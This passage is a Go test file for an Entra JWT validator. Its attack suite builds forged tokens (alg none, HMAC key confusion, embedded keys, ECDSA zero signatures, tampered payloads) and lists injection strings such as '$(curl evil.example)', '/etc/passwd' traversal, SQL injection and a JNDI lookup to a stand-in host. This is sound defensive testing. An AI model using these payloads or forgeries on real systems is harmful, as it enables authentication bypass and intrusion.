package entra_test

import (
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"maps"
	"math/big"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	entra "github.com/entraguard/entraguard/core"
	"github.com/entraguard/entraguard/core/entratest"
)

// This file holds the attack suite (TestAttacks) and the helpers that the
// attack, hostile-endpoint, fuzz and soak tests share: a JWS signer for
// every algorithm, JWK builders, and keyAuthority, a minimal authority whose
// key set the test writes byte for byte (for what entratest does not make:
// EC keys, 1024-bit keys, mismatched x5c, duplicate kids).

// allAlgorithms is every algorithm Config.Algorithms may list.
var allAlgorithms = []string{"RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "ES384", "ES512"}

// graphAppID is Microsoft Graph's application ID, the aud of its tokens.
const graphAppID = "00000003-0000-0000-c000-000000000000"

func b64u(b []byte) string { return base64.RawURLEncoding.EncodeToString(b) }

func mustJSON(t testing.TB, v any) []byte {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func algHash(alg string) crypto.Hash {
	switch {
	case strings.HasSuffix(alg, "384"):
		return crypto.SHA384
	case strings.HasSuffix(alg, "512"):
		return crypto.SHA512
	}
	return crypto.SHA256
}

// jwsSign returns the compact JWS of exactly these header and payload
// bytes, signed with key for alg: RS*, PS* (an *rsa.PrivateKey) or ES* (an
// *ecdsa.PrivateKey, with JOSE's fixed-size r||s signature).
func jwsSign(t testing.TB, alg string, key crypto.Signer, header, payload []byte) string {
	t.Helper()
	tok, err := signJWS(alg, key, header, payload)
	if err != nil {
		t.Fatal(err)
	}
	return tok
}

// signJWS is jwsSign for code without a testing.TB.
func signJWS(alg string, key crypto.Signer, header, payload []byte) (string, error) {
	input := b64u(header) + "." + b64u(payload)
	hash := algHash(alg)
	h := hash.New()
	h.Write([]byte(input))
	digest := h.Sum(nil)
	var sig []byte
	var err error
	switch alg[:2] {
	case "RS":
		sig, err = rsa.SignPKCS1v15(rand.Reader, key.(*rsa.PrivateKey), hash, digest)
	case "PS":
		sig, err = rsa.SignPSS(rand.Reader, key.(*rsa.PrivateKey), hash, digest, &rsa.PSSOptions{SaltLength: rsa.PSSSaltLengthEqualsHash})
	case "ES":
		k := key.(*ecdsa.PrivateKey)
		var r, s *big.Int
		if r, s, err = ecdsa.Sign(rand.Reader, k, digest); err == nil {
			size := (k.Curve.Params().BitSize + 7) / 8
			sig = make([]byte, 2*size)
			r.FillBytes(sig[:size])
			s.FillBytes(sig[size:])
		}
	default:
		err = fmt.Errorf("signJWS: unsupported alg %q", alg)
	}
	if err != nil {
		return "", err
	}
	return input + "." + b64u(sig), nil
}

// hmacJWS returns a compact JWS MACed with secret (HS256, HS384, HS512).
func hmacJWS(alg string, secret, header, payload []byte) string {
	input := b64u(header) + "." + b64u(payload)
	m := hmac.New(algHash(alg).New, secret)
	m.Write([]byte(input))
	return input + "." + b64u(m.Sum(nil))
}

// rsaJWK is an Entra-shaped JWK (no alg) of pub.
func rsaJWK(kid string, pub *rsa.PublicKey) map[string]any {
	return map[string]any{"kty": "RSA", "use": "sig", "kid": kid,
		"n": b64u(pub.N.Bytes()), "e": b64u(big.NewInt(int64(pub.E)).Bytes())}
}

// ecJWK is a JWK of pub.
func ecJWK(kid string, pub *ecdsa.PublicKey) map[string]any {
	raw, err := pub.Bytes()
	if err != nil {
		panic(err)
	}
	size := (len(raw) - 1) / 2
	return map[string]any{"kty": "EC", "use": "sig", "kid": kid, "crv": pub.Curve.Params().Name,
		"x": b64u(raw[1 : 1+size]), "y": b64u(raw[1+size:])}
}

// selfSignedDER returns a self-signed certificate of key, as Entra's.
func selfSignedDER(t testing.TB, key crypto.Signer) []byte {
	t.Helper()
	der, err := certDER(key)
	if err != nil {
		t.Fatal(err)
	}
	return der
}

// certDER is selfSignedDER for code without a testing.TB.
func certDER(key crypto.Signer) ([]byte, error) {
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(time.Now().UnixNano()),
		Subject:      pkix.Name{CommonName: "accounts.accesscontrol.windows.net"},
		NotBefore:    time.Now().Add(-time.Hour),
		NotAfter:     time.Now().AddDate(1, 0, 0),
	}
	return x509.CreateCertificate(rand.Reader, tmpl, tmpl, key.Public(), key)
}

func mustRSAKey(t testing.TB, bits int) *rsa.PrivateKey {
	t.Helper()
	k, err := rsa.GenerateKey(rand.Reader, bits)
	if err != nil {
		t.Fatal(err)
	}
	return k
}

func mustECKey(t testing.TB, c elliptic.Curve) *ecdsa.PrivateKey {
	t.Helper()
	k, err := ecdsa.GenerateKey(c, rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	return k
}

// keyAuthority is a minimal Entra-shaped authority on loopback: v2.0 and
// v1.0 metadata for one tenant and a key set served exactly as set. Its
// issuers can mirror an entratest.Server's, so that tokens minted there
// validate against key sets rewritten here.
type keyAuthority struct {
	srv    *httptest.Server
	URL    string
	Tenant string
	Client string

	mu    sync.Mutex
	issV2 string
	issV1 string
	jwks  []byte
}

func newKeyAuthority(t testing.TB) *keyAuthority {
	t.Helper()
	a := &keyAuthority{Tenant: "3b8f6c2e-5d4a-4f1b-9c7e-2a6d8e0f1b3c", Client: "6e2d9a41-7b3c-4e8f-a1d5-9c0b2e4f6a8d"}
	a.srv = httptest.NewServer(http.HandlerFunc(a.serve))
	a.URL = a.srv.URL
	a.issV2 = a.URL + "/" + a.Tenant + "/v2.0"
	a.issV1 = "https://sts.windows.net/" + a.Tenant + "/"
	a.jwks = []byte(`{"keys":[]}`)
	t.Cleanup(a.srv.Close)
	return a
}

// mirror makes a serve srv's tenant, client and issuers, so that tokens
// minted by srv validate against a's key set.
func (a *keyAuthority) mirror(srv *entratest.Server) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.Tenant, a.Client = srv.TenantID, srv.ClientID
	a.issV2, a.issV1 = srv.Issuer(entra.Version2, ""), srv.Issuer(entra.Version1, "")
}

// mirrorTenant is mirror for the authority's tenant path tenant, which may
// be "organizations" or "common" (issuers are then {tenantid} templates).
func (a *keyAuthority) mirrorTenant(srv *entratest.Server, tenant string) {
	a.mirror(srv)
	a.mu.Lock()
	defer a.mu.Unlock()
	a.Tenant = tenant
	if tenant == entra.TenantOrganizations || tenant == entra.TenantCommon {
		a.issV2, a.issV1 = srv.Issuer(entra.Version2, "{tenantid}"), srv.Issuer(entra.Version1, "{tenantid}")
	}
}

func (a *keyAuthority) serve(w http.ResponseWriter, r *http.Request) {
	a.mu.Lock()
	tenant, issV2, issV1, jwks := a.Tenant, a.issV2, a.issV1, a.jwks
	a.mu.Unlock()
	w.Header().Set("Content-Type", "application/json")
	meta := func(iss string) {
		_ = json.NewEncoder(w).Encode(map[string]string{
			"issuer":                 iss,
			"jwks_uri":               a.URL + "/" + tenant + "/discovery/v2.0/keys",
			"authorization_endpoint": a.URL + "/" + tenant + "/oauth2/v2.0/authorize",
		})
	}
	switch r.URL.Path {
	case "/" + tenant + "/v2.0/.well-known/openid-configuration":
		meta(issV2)
	case "/" + tenant + "/.well-known/openid-configuration":
		meta(issV1)
	case "/" + tenant + "/discovery/v2.0/keys":
		_, _ = w.Write(jwks)
	default:
		http.NotFound(w, r)
	}
}

// setKeys serves {"keys": keys}.
func (a *keyAuthority) setKeys(keys ...map[string]any) {
	b, err := json.Marshal(map[string]any{"keys": keys})
	if err != nil {
		panic(err)
	}
	a.setJWKS(b)
}

// setJWKS serves raw as the key set.
func (a *keyAuthority) setJWKS(raw []byte) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.jwks = append([]byte(nil), raw...)
}

// config is a Config for a's tenant, without the token cache.
func (a *keyAuthority) config() entra.Config {
	a.mu.Lock()
	defer a.mu.Unlock()
	return entra.Config{
		TenantID: a.Tenant, ClientID: a.Client, AuthorityHost: a.URL + "/",
		HTTPClient: a.srv.Client(), CacheSize: -1,
		AnyTenant: a.Tenant == entra.TenantOrganizations || a.Tenant == entra.TenantCommon,
	}
}

// claims are the claims of a valid v2.0 delegated token of a's tenant.
func (a *keyAuthority) claims() map[string]any {
	a.mu.Lock()
	defer a.mu.Unlock()
	now := time.Now()
	return map[string]any{
		"aud": a.Client, "iss": a.issV2, "tid": a.Tenant, "ver": "2.0",
		"oid": "0f4c3a2b-1d5e-4f6a-8b7c-9d0e1f2a3b4c", "sub": "attack-suite-user", "scp": "Orders.Read",
		"iat": now.Add(-5 * time.Minute).Unix(), "nbf": now.Add(-5 * time.Minute).Unix(), "exp": now.Add(time.Hour).Unix(),
	}
}

// token signs claims with key for alg under kid.
func (a *keyAuthority) token(t testing.TB, alg string, key crypto.Signer, kid string, claims map[string]any) string {
	t.Helper()
	return jwsSign(t, alg, key, mustJSON(t, map[string]any{"typ": "JWT", "alg": alg, "kid": kid}), mustJSON(t, claims))
}

// segments splits a compact JWS.
func segments(tok string) (header, payload, sig string) {
	p := strings.SplitN(tok, ".", 3)
	for len(p) < 3 {
		p = append(p, "")
	}
	return p[0], p[1], p[2]
}

// decodeSegment decodes one base64url segment, failing the test on error.
func decodeSegment(t testing.TB, s string) []byte {
	t.Helper()
	b, err := base64.RawURLEncoding.DecodeString(s)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// checkRefused asserts that Validate refused tok with want, returned no
// claims, and that the refusal maps to a 401 that does not echo the token.
func checkRefused(t *testing.T, v *entra.Validator, tok string, want error) {
	t.Helper()
	c, err := v.Validate(ctxT(t), tok)
	if c != nil {
		t.Fatalf("Validate returned claims (err %v)", err)
	}
	if err == nil {
		t.Fatal("Validate accepted the token")
	}
	if !errors.Is(err, want) {
		t.Fatalf("Validate: got %v (%v), want %v", entra.CodeOf(err), err, want.(*entra.Error).Code)
	}
	r := entra.ResponseFor(context.Background(), err)
	if r.Status != http.StatusUnauthorized {
		t.Fatalf("answer status %d, want 401", r.Status)
	}
	if _, _, sig := segments(tok); len(sig) >= 16 {
		if strings.Contains(string(r.Body), sig[len(sig)-16:]) || strings.Contains(r.Header.Get("WWW-Authenticate"), sig[len(sig)-16:]) {
			t.Fatal("answer echoes the token's signature")
		}
	}
}

// TestAttacks runs one case per known JWT attack class against validators
// whose keys are loaded. Every case must be refused with its own sentinel,
// without claims. The controls show that each validator accepts the
// genuine form of what the cases forge, so that no refusal is vacuous.
func TestAttacks(t *testing.T) {
	srv := entratest.NewServer()
	defer srv.Close()
	other := entratest.NewServer() // an attacker's authority: its own keys
	defer other.Close()
	second := srv.AddKey() // published, not signing by default
	unpublished := srv.AddUnpublishedKey()
	cur := srv.CurrentKeyID()
	attacker := other.PrivateKey(other.CurrentKeyID())
	ctx := ctxT(t)

	withCfg := func(cfg entra.Config, f func(*entra.Config)) *entra.Validator {
		cfg.CacheSize = -1
		if f != nil {
			f(&cfg)
		}
		v := newValidator(t, cfg)
		if err := v.Ready(ctx); err != nil {
			t.Fatalf("Ready: %v", err)
		}
		return v
	}
	tenantA := "6babcaad-604b-40ac-a9d7-9fd97c0b779f"
	tenantB := "9e3a1f50-1c8b-4b5f-9f3c-2a7d4c1e8b90"
	vDef := withCfg(srv.Config(), nil)
	vAll := withCfg(srv.Config(), func(c *entra.Config) { c.Algorithms = allAlgorithms })
	vURI := withCfg(srv.Config(), func(c *entra.Config) { c.Audiences = []string{"https://api.contoso.com/orders"} })
	vOrg := withCfg(anyTenant(srv.MultiTenantConfig(entra.TenantOrganizations)), nil)
	vOrgAllowed := withCfg(srv.MultiTenantConfig(entra.TenantOrganizations), func(c *entra.Config) { c.AllowedTenants = []string{tenantA} })

	// An authority of our own for EC keys and a 1024-bit key.
	ka := newKeyAuthority(t)
	ecKey := mustECKey(t, elliptic.P256())
	rsaBig := srv.PrivateKey(unpublished) // any 2048-bit key will do; ka publishes it
	small := mustRSAKey(t, 1024)
	ka.setKeys(ecJWK("ec-1", &ecKey.PublicKey), rsaJWK("rsa-2048", &rsaBig.PublicKey), rsaJWK("rsa-1024", &small.PublicKey))
	vEC := withCfg(ka.config(), func(c *entra.Config) { c.Algorithms = []string{"ES256"} })
	vKA := withCfg(ka.config(), nil)

	// Key sets whose keys carry an issuer property (v2.0 key sets): the
	// current key is a work-or-school key ({tenantid}), the second one a
	// personal-account (MSA) key of the consumers tenant, as in Entra's
	// common key set; for the single-tenant API the current key names
	// another tenant.
	var srvSet struct {
		Keys []map[string]any `json:"keys"`
	}
	if err := json.Unmarshal(fetchDoc(t, srv, entratest.EndpointJWKS), &srvSet); err != nil {
		t.Fatal(err)
	}
	withIssuer := func(kid, iss string) map[string]any {
		for _, k := range srvSet.Keys {
			if k["kid"] == kid {
				k = maps.Clone(k)
				k["issuer"] = iss
				return k
			}
		}
		t.Fatalf("no key %s", kid)
		return nil
	}
	kaMT := newKeyAuthority(t)
	kaMT.mirrorTenant(srv, entra.TenantCommon)
	kaMT.setKeys(withIssuer(cur, srv.Issuer("2.0", "{tenantid}")), withIssuer(second, srv.Issuer("2.0", entratest.ConsumersTenantID)))
	vMT := withCfg(kaMT.config(), nil)
	kaST := newKeyAuthority(t)
	kaST.mirror(srv)
	kaST.setKeys(withIssuer(cur, srv.Issuer("2.0", tenantB)), withIssuer(second, srv.Issuer("2.0", "")))
	vST := withCfg(kaST.config(), nil)

	good := srv.UserToken("Orders.Read")
	gh, gp, gs := segments(good)
	payload := decodeSegment(t, gp)
	hdr := func(m map[string]any) string { return b64u(mustJSON(t, m)) }
	pub := srv.PublicKey(cur)
	pkixDER, _ := x509.MarshalPKIXPublicKey(pub)
	pkcs1DER := x509.MarshalPKCS1PublicKey(pub)
	certDER := srv.Certificate(cur).Raw
	// withPayload inserts members at the start of the genuine payload.
	withPayload := func(members string) []byte {
		return append([]byte("{"+members+","), payload[1:]...)
	}
	// flipUnusedBit changes the last character of a base64url segment in a
	// bit that decoding ignores: the bytes are the same, the text is not.
	flipUnusedBit := func(seg string) string {
		const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
		i := strings.IndexByte(alphabet, seg[len(seg)-1])
		return seg[:len(seg)-1] + string(alphabet[i^1])
	}

	t.Run("controls", func(t *testing.T) {
		for _, c := range []struct {
			name string
			v    *entra.Validator
			tok  string
		}{
			{"genuine token", vDef, good},
			{"second published key", vDef, srv.Mint(entratest.Token{KeyID: second, Scopes: []string{"a"}})},
			{"PS256 when allowed", vAll, jwsSign(t, "PS256", srv.PrivateKey(cur), mustJSON(t, map[string]any{"alg": "PS256", "kid": cur}), payload)},
			{"genuine ES256", vEC, ka.token(t, "ES256", ecKey, "ec-1", ka.claims())},
			{"genuine 2048-bit key", vKA, ka.token(t, "RS256", rsaBig, "rsa-2048", ka.claims())},
			{"raw signed payload", vDef, srv.SignBytes("", decodeSegment(t, gh), payload)},
			{"multi-tenant, tenant A", vOrg, srv.Mint(entratest.Token{TenantID: tenantA, Scopes: []string{"a"}})},
			{"multi-tenant v1, tenant A", vOrg, srv.Mint(entratest.Token{Version: "1.0", TenantID: tenantA, Scopes: []string{"a"}})},
			{"allowed tenant", vOrgAllowed, srv.Mint(entratest.Token{TenantID: tenantA, Scopes: []string{"a"}})},
			{"work-or-school key, v2 token of tenant A", vMT, srv.Mint(entratest.Token{TenantID: tenantA, Scopes: []string{"a"}})},
			{"work-or-school key, v1 token of tenant A", vMT, srv.Mint(entratest.Token{Version: "1.0", TenantID: tenantA, Scopes: []string{"a"}})},
			{"personal-account key, v2 token of the consumers tenant", vMT, srv.Mint(entratest.Token{KeyID: second, TenantID: entratest.ConsumersTenantID, Scopes: []string{"a"}})},
			{"single tenant, key of its own tenant, v1 token", vST, srv.Mint(entratest.Token{KeyID: second, Version: "1.0", Scopes: []string{"a"}})},
		} {
			if _, err := c.v.Validate(ctx, c.tok); err != nil {
				t.Errorf("%s: %v", c.name, err)
			}
		}
	})

	type attack struct {
		name string
		v    *entra.Validator // nil: vDef
		tok  string
		want error
	}
	var cases []attack
	add := func(name string, v *entra.Validator, tok string, want error) {
		cases = append(cases, attack{name, v, tok, want})
	}

	// alg none, in every case variant, with and without a signature, also
	// when every asymmetric algorithm is allowed.
	for _, alg := range []string{"none", "None", "NONE", "nOnE"} {
		h := hdr(map[string]any{"alg": alg, "typ": "JWT", "kid": cur})
		add("alg "+alg+", signature stripped", nil, h+"."+gp+".", entra.ErrAlgorithmNotAllowed)
		add("alg "+alg+", signature kept", nil, h+"."+gp+"."+gs, entra.ErrAlgorithmNotAllowed)
		add("alg "+alg+", all algorithms allowed", vAll, h+"."+gp+".", entra.ErrAlgorithmNotAllowed)
		add("alg "+alg+", no kid", nil, hdr(map[string]any{"alg": alg})+"."+gp+".", entra.ErrAlgorithmNotAllowed)
	}
	add("alg none, signed header (Mint)", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Header: map[string]any{"alg": "none"}}), entra.ErrAlgorithmNotAllowed)

	// HMAC with the RSA public key as the secret (key confusion).
	secrets := []struct {
		name string
		key  []byte
	}{
		{"PEM (PKIX)", pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pkixDER})},
		{"PEM (PKCS#1)", pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: pkcs1DER})},
		{"DER (PKIX)", pkixDER},
		{"DER (PKCS#1)", pkcs1DER},
		{"raw modulus", pub.N.Bytes()},
		{"modulus as in the JWK", []byte(b64u(pub.N.Bytes()))},
		{"x5c certificate", certDER},
	}
	for _, hs := range []string{"HS256", "HS384", "HS512"} {
		for _, s := range secrets {
			h := mustJSON(t, map[string]any{"alg": hs, "typ": "JWT", "kid": cur})
			add(hs+" keyed with the public key, "+s.name, nil, hmacJWS(hs, s.key, h, payload), entra.ErrAlgorithmNotAllowed)
			add(hs+" keyed with the public key, "+s.name+", all algorithms allowed", vAll, hmacJWS(hs, s.key, h, payload), entra.ErrAlgorithmNotAllowed)
		}
	}

	// Keys named or embedded in the token.
	attackerJWK := rsaJWK(cur, &attacker.PublicKey)
	add("embedded jwk with the published kid", nil, jwsSign(t, "RS256", attacker, mustJSON(t, map[string]any{"alg": "RS256", "kid": cur, "jwk": attackerJWK}), payload), entra.ErrTokenUnsupported)
	add("embedded jwk, own kid", nil, jwsSign(t, "RS256", attacker, mustJSON(t, map[string]any{"alg": "RS256", "kid": "attacker", "jwk": rsaJWK("attacker", &attacker.PublicKey)}), payload), entra.ErrTokenUnsupported)
	add("embedded jwk, no kid", nil, jwsSign(t, "RS256", attacker, mustJSON(t, map[string]any{"alg": "RS256", "jwk": attackerJWK}), payload), entra.ErrTokenUnsupported)
	add("jku pointing elsewhere", nil, jwsSign(t, "RS256", attacker, mustJSON(t, map[string]any{"alg": "RS256", "kid": "attacker", "jku": "https://evil.example/keys"}), payload), entra.ErrTokenUnsupported)
	add("jku pointing at the real key set", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Header: map[string]any{"jku": srv.URL + "/" + srv.TenantID + "/discovery/v2.0/keys"}}), entra.ErrTokenUnsupported)
	add("x5u pointing elsewhere", nil, jwsSign(t, "RS256", attacker, mustJSON(t, map[string]any{"alg": "RS256", "kid": cur, "x5u": "https://evil.example/cert.pem"}), payload), entra.ErrTokenUnsupported)
	add("embedded x5c", nil, jwsSign(t, "RS256", attacker, mustJSON(t, map[string]any{"alg": "RS256", "kid": cur, "x5c": []string{base64.StdEncoding.EncodeToString(selfSignedDER(t, attacker))}}), payload), entra.ErrTokenUnsupported)

	// kid injection: the kid is only ever a map key.
	for _, kid := range []string{
		"../../../../../../dev/null", "/etc/passwd", `..\..\windows\win.ini`, "file:///etc/passwd",
		"' OR '1'='1", "x' UNION SELECT 'AAAA' -- ", "1; DROP TABLE keys", "$(curl evil.example)", "|id",
		"%00", "\x00", "kid\r\nX-Injected: 1", "{{7*7}}", "${jndi:ldap://evil.example/a}", "*",
		cur + "\x00", cur + " ", " " + cur, cur[1:], strings.Repeat("A", 8000),
	} {
		add(fmt.Sprintf("kid injection %.40q", kid), nil, jwsSign(t, "RS256", attacker, mustJSON(t, map[string]any{"alg": "RS256", "typ": "JWT", "kid": kid}), payload), entra.ErrUnknownKey)
	}
	add("kid as a number", nil, jwsSign(t, "RS256", attacker, []byte(`{"alg":"RS256","kid":0}`), payload), entra.ErrTokenMalformed)
	add("kid as null", nil, jwsSign(t, "RS256", attacker, []byte(`{"alg":"RS256","kid":null}`), payload), entra.ErrTokenMalformed)
	add("kid empty", nil, jwsSign(t, "RS256", attacker, []byte(`{"alg":"RS256","kid":""}`), payload), entra.ErrUnknownKey)

	// The kid of one key, the signature of another.
	add("kid of the current key, signed by the second published key", nil, srv.Mint(entratest.Token{KeyID: second, Scopes: []string{"a"}, Header: map[string]any{"kid": cur}}), entra.ErrSignatureInvalid)
	add("kid of the second published key, signed by the current key", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Header: map[string]any{"kid": second}}), entra.ErrSignatureInvalid)
	add("kid of a published key, signed by an unpublished key", nil, srv.Mint(entratest.Token{KeyID: unpublished, Scopes: []string{"a"}, Header: map[string]any{"kid": cur}}), entra.ErrSignatureInvalid)
	add("signed by an unpublished key", nil, srv.Mint(entratest.Token{KeyID: unpublished, Scopes: []string{"a"}}), entra.ErrUnknownKey)
	add("another authority's token, kid rewritten", nil, other.Mint(entratest.Token{TenantID: srv.TenantID, Audience: srv.ClientID, Scopes: []string{"a"}, Header: map[string]any{"kid": cur}}), entra.ErrSignatureInvalid)
	add("another authority's token", nil, other.Mint(entratest.Token{TenantID: srv.TenantID, Audience: srv.ClientID, Scopes: []string{"a"}}), entra.ErrUnknownKey)

	// ECDSA psychic signatures (CVE-2022-21449) and other ECDSA forgeries.
	ecHdr := mustJSON(t, map[string]any{"alg": "ES256", "typ": "JWT", "kid": "ec-1"})
	ecPayload := mustJSON(t, ka.claims())
	ecInput := b64u(ecHdr) + "." + b64u(ecPayload)
	order := elliptic.P256().Params().N.FillBytes(make([]byte, 32))
	add("ES256 psychic signature r=s=0", vEC, ecInput+"."+b64u(make([]byte, 64)), entra.ErrSignatureInvalid)
	add("ES256 signature r=s=n (the group order)", vEC, ecInput+"."+b64u(append(slices.Clone(order), order...)), entra.ErrSignatureInvalid)
	add("ES256 signature r=0, s=1", vEC, ecInput+"."+b64u(append(make([]byte, 32), append(make([]byte, 31), 1)...)), entra.ErrSignatureInvalid)
	add("ES256 psychic signature, short form", vEC, ecInput+"."+b64u([]byte{0, 0}), entra.ErrSignatureInvalid)
	add("ES256 psychic signature, all algorithms allowed", vAll, b64u(mustJSON(t, map[string]any{"alg": "ES256", "kid": cur}))+"."+gp+"."+b64u(make([]byte, 64)), entra.ErrAlgorithmNotAllowed)
	add("ES256 psychic signature, RS256-only validator", vKA, ecInput+"."+b64u(make([]byte, 64)), entra.ErrAlgorithmNotAllowed)
	{
		digest := crypto.SHA256.New()
		digest.Write([]byte(ecInput))
		der, err := ecdsa.SignASN1(rand.Reader, ecKey, digest.Sum(nil))
		if err != nil {
			t.Fatal(err)
		}
		add("ES256 signature in ASN.1 DER instead of r||s", vEC, ecInput+"."+b64u(der), entra.ErrSignatureInvalid)
	}

	// Signature stripping, truncation, substitution.
	add("signature stripped (trailing dot)", nil, gh+"."+gp+".", entra.ErrSignatureInvalid)
	add("signature segment missing", nil, gh+"."+gp, entra.ErrTokenMalformed)
	add("signature of zeros", nil, gh+"."+gp+"."+b64u(make([]byte, 256)), entra.ErrSignatureInvalid)
	add("signature one byte short", nil, gh+"."+gp+"."+b64u(decodeSegment(t, gs)[1:]), entra.ErrSignatureInvalid)
	add("signature with a byte appended", nil, gh+"."+gp+"."+b64u(append(decodeSegment(t, gs), 0)), entra.ErrSignatureInvalid)
	add("signature with non-canonical base64url", nil, gh+"."+gp+"."+flipUnusedBit(gs), entra.ErrTokenMalformed)
	add("signature with padding", nil, good+"==", entra.ErrTokenMalformed)
	add("signature of another token", nil, gh+"."+gp+"."+func() string { _, _, s := segments(srv.AppToken("Admin")); return s }(), entra.ErrSignatureInvalid)

	// Payload and header substitution under a genuine signature.
	add("payload swapped with an app token's", nil, gh+"."+func() string { _, p, _ := segments(srv.AppToken("Admin")); return p }()+"."+gs, entra.ErrSignatureInvalid)
	add("payload tampered (scp)", nil, gh+"."+b64u(withPayload(`"scp":"Orders.Write"`))+"."+gs, entra.ErrSignatureInvalid)
	add("payload tampered (roles)", nil, gh+"."+b64u(append(payload[:len(payload)-1:len(payload)-1], []byte(`,"roles":["Admin"]}`)...))+"."+gs, entra.ErrSignatureInvalid)
	add("payload with non-canonical base64url", nil, gh+"."+flipUnusedBit(gp)+"."+gs, entra.ErrTokenMalformed)
	add("header swapped with a v1 token's", nil, func() string { h, _, _ := segments(srv.Mint(entratest.Token{Version: "1.0"})); return h }()+"."+gp+"."+gs, entra.ErrSignatureInvalid)
	add("alg swapped to RS384, all algorithms allowed", vAll, hdr(map[string]any{"alg": "RS384", "typ": "JWT", "kid": cur})+"."+gp+"."+gs, entra.ErrSignatureInvalid)
	add("alg swapped to PS256, all algorithms allowed", vAll, hdr(map[string]any{"alg": "PS256", "typ": "JWT", "kid": cur})+"."+gp+"."+gs, entra.ErrSignatureInvalid)
	add("alg RS256 on a PS256 signature, all algorithms allowed", vAll, jwsSign(t, "PS256", srv.PrivateKey(cur), mustJSON(t, map[string]any{"alg": "RS256", "kid": cur}), payload), entra.ErrSignatureInvalid)
	add("alg ES256 on an RSA key, all algorithms allowed", vAll, hdr(map[string]any{"alg": "ES256", "kid": cur})+"."+gp+"."+b64u(make([]byte, 64)), entra.ErrAlgorithmNotAllowed)

	// Duplicate members: the strict reader refuses them, signed or not.
	for _, h := range []string{
		`{"alg":"RS256","alg":"none","kid":"` + cur + `"}`,
		`{"alg":"none","alg":"RS256","kid":"` + cur + `"}`,
		`{"alg":"RS256","kid":"attacker","kid":"` + cur + `"}`,
		`{"alg":"RS256","\u0061lg":"none","kid":"` + cur + `"}`,
		`{"alg":"RS256","kid":"` + cur + `","typ":"JWT","typ":"JWE"}`,
	} {
		add("duplicate header member "+h, nil, srv.SignBytes("", []byte(h), payload), entra.ErrTokenMalformed)
	}
	for _, m := range []string{
		`"aud":"api://attacker"`, `"iss":"https://evil.example/v2.0"`, `"tid":"` + tenantB + `"`,
		`"exp":1`, `"scp":"Admin.All"`, `"oid":"0f4c3a2b-0000-4000-8000-000000000000"`, `"a\u0075d":"api://attacker"`,
	} {
		add("duplicate claim "+m, nil, srv.SignBytes("", decodeSegment(t, gh), withPayload(m)), entra.ErrTokenMalformed)
	}

	// Nested and encrypted tokens.
	add("nested JWT (cty JWT)", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Header: map[string]any{"cty": "JWT"}}), entra.ErrTokenUnsupported)
	add("nested JWT (payload is a JWT string)", nil, srv.SignBytes("", decodeSegment(t, gh), mustJSON(t, good)), entra.ErrTokenMalformed)
	add("JWE-shaped (5 segments)", nil, b64u([]byte(`{"alg":"RSA-OAEP-256","enc":"A256GCM"}`))+".a.b.c.d", entra.ErrTokenUnsupported)
	add("JWE-shaped, a real token with two more segments", nil, good+".AAAA.AAAA", entra.ErrTokenUnsupported)
	add("JWE header on three segments", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Header: map[string]any{"enc": "A256GCM"}}), entra.ErrTokenUnsupported)
	add("compressed payload (zip)", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Header: map[string]any{"zip": "DEF"}}), entra.ErrTokenUnsupported)
	add("crit extension", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Header: map[string]any{"crit": []string{"b64"}, "b64": false}}), entra.ErrTokenUnsupported)
	add("typ not a JWT", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Header: map[string]any{"typ": "dpop+jwt"}}), entra.ErrTokenUnsupported)

	// Algorithm names.
	for _, alg := range []string{"rs256", "RS256 ", "Rs256", "RS-256", "HS256", "ES256K", "EdDSA", "RSA1_5"} {
		add(fmt.Sprintf("alg %q", alg), nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Header: map[string]any{"alg": alg}}), entra.ErrAlgorithmNotAllowed)
	}
	add("alg missing", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Header: map[string]any{"alg": nil}}), entra.ErrAlgorithmNotAllowed)
	add("alg null", nil, srv.SignBytes("", []byte(`{"alg":null,"kid":"`+cur+`"}`), payload), entra.ErrTokenMalformed)
	add("alg as an array", nil, srv.SignBytes("", []byte(`{"alg":["RS256"],"kid":"`+cur+`"}`), payload), entra.ErrTokenMalformed)
	add("PS256 when only RS256 is allowed", nil, jwsSign(t, "PS256", srv.PrivateKey(cur), mustJSON(t, map[string]any{"alg": "PS256", "typ": "JWT", "kid": cur}), payload), entra.ErrAlgorithmNotAllowed)
	add("RS512 when only RS256 is allowed", nil, jwsSign(t, "RS512", srv.PrivateKey(cur), mustJSON(t, map[string]any{"alg": "RS512", "typ": "JWT", "kid": cur}), payload), entra.ErrAlgorithmNotAllowed)

	// Numbers and types of time claims and aud.
	for _, c := range []struct {
		name string
		v    any
		want error
	}{
		{"exp 1e300", json.RawMessage("1e300"), entra.ErrTokenMalformed},
		{"exp beyond float64", json.RawMessage("1e309"), entra.ErrTokenMalformed},
		{"exp beyond int64", json.RawMessage("99999999999999999999999999"), entra.ErrTokenMalformed},
		{"exp in year 10000", json.RawMessage("253402300800"), entra.ErrTokenMalformed},
		{"exp negative", json.RawMessage("-1"), entra.ErrTokenMalformed},
		{"exp zero", json.RawMessage("0"), entra.ErrTokenExpired},
